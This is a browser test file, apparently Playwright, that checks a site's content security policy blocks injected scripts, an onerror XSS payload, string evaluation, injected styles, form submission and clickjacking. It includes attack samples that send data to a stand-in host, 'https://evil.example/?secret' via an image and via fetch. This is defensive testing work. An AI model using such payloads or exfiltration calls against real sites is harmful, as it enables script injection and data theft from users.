import { tabs } from '../src/navigation';
import { expect, test } from './support/fixtures';

// What the content security policy blocks. third-parties.spec.ts checks what it allows,
// tests/build/pages/response-headers.test.ts its whole text, and smoke.spec.ts that it is sent.

/** Where Trusted Types are supported, they block a script before `script-src` does. */
const scripts = /^(require-trusted-types-for|script-src(-elem|-attr)?)$/;

/** Attempts of a script in the page, and the directive that blocks each. */
const attacks: [name: string, directive: RegExp, attempt: () => unknown][] = [
  [
    'inline script',
    scripts,
    () => document.head.append(Object.assign(document.createElement('script'), { text: '1' })),
  ],
  [
    'inline event handler',
    scripts,
    () => document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="alert(1)">'),
  ],
  ['string evaluated as script', scripts, () => void setTimeout('window.wasEvaluated = true')],
  [
    'style element',
    /^style-src-elem$/,
    () => {
      const style = document.createElement('style');
      style.textContent = '* { display: none }';
      document.head.append(style);
    },
  ],
  [
    'exfiltration by an image',
    /^img-src$/,
    () => {
      new Image().src = 'https://evil.example/?secret';
    },
  ],
  [
    'exfiltration by fetch',
    /^connect-src$/,
    () => void fetch('https://evil.example/').catch(() => {}),
  ],
  [
    'values of a form in the URL, as before the app starts',
    /^form-action$/,
    () => document.querySelector<HTMLFormElement>('#contact form')?.submit(),
  ],
];

test('CSP blocks every attempt to inject code or send data elsewhere', async ({
  site,
  allowedErrors,
}) => {
  allowedErrors.push('CSP violation', 'console error', 'uncaught');
  allowedErrors.push('cross-origin request: https://evil.example/');
  for (const [name, directive, attempt] of attacks)
    await test.step(name, async () => {
      const violation = site.evaluate(
        () =>
          new Promise<string>((resolve) => {
            document.addEventListener(
              'securitypolicyviolation',
              ({ effectiveDirective }) => resolve(effectiveDirective),
              { once: true },
            );
            // Far longer than a browser takes, and shorter than the test may.
            setTimeout(() => resolve('nothing blocked it'), 10_000);
          }),
      );
      await site.evaluate(attempt).catch(() => {});
      expect(await violation, name).toMatch(directive);
    });
  expect(await site.evaluate(() => 'wasEvaluated' in window)).toBe(false);
  expect(await site.evaluate(() => document.querySelectorAll('h1').length)).toBe(tabs.length);
});

test('another site cannot embed the page in an iframe', async ({
  page,
  context,
  allowedErrors,
  baseURL,
}) => {
  allowedErrors.push(
    'frame-ancestors',
    'cross-origin request: https://evil.example/',
    'X-Frame-Options',
  );
  await context.route('https://evil.example/', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${baseURL}"></iframe>` }),
  );
  const refusal = page.waitForEvent('requestfailed', (request) => request.url() === baseURL);
  await page.goto('https://evil.example/');
  await refusal;
  await expect(page.frameLocator('iframe').getByRole('banner')).toHaveCount(0);
});
